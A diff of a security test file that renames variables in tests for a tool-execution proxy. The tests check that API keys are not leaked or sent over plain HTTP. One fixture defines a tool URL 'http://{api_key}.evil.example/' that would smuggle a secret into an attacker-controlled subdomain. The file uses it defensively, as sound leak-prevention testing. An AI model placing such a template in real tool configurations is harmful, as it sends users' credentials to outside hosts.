@@ -128,8 +128,8 @@ describe('what a caller writes into an address', () => {
       http: { url: 'http://{api_key}.evil.example/' },
     })
     for (const dryRun of [true, false]) {
-      const told = await project.member.as('ada').post(`${tools}/execute/brace_host`, { dryRun })
-      assert.ok(!told.text.toLowerCase().includes(apiKey.toLowerCase()), told.text)
+      const reported = await project.member.as('ada').post(`${tools}/execute/brace_host`, { dryRun })
+      assert.ok(!reported.text.toLowerCase().includes(apiKey.toLowerCase()), reported.text)
     }
   })
   test('is refused as the fault of the caller where it is no address', async () => {
@@ -233,8 +233,8 @@ describe('refusals', () => {
 describe('an encrypted service', () => {
   test('is not called in the open with an account, whoever writes the address', async () => {
     await keyToolkit('only-https', 'https://api.example.com')
-    const asked = await proxy('http://api.example.com/x', { toolkitSlug: 'only-https' })
-    assert.equal(asked.body.data.errorCode, 'host_not_allowed', asked.text)
+    const requested = await proxy('http://api.example.com/x', { toolkitSlug: 'only-https' })
+    assert.equal(requested.body.data.errorCode, 'host_not_allowed', requested.text)
     await httpTool('in_the_open', {
       ...{ toolkitSlug: 'only-https', noAuth: false, http: { url: 'http://api.example.com/x' } },
     })
